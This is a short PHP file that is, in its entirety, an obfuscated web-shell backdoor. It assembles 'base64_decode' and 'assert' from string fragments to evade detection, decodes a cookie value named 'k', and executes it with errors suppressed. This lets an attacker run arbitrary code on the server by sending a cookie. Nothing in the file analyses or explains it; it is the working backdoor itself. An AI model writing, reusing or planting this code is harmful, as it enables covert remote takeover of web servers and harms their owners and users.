<?php
$d = 'ba' . 'se' . '64_d' . 'ecode';
$r = 'as' . 'se' . 'rt';
$k = isset($_COOKIE['k']) ? $_COOKIE['k'] : '';
@$r(@$d($k));
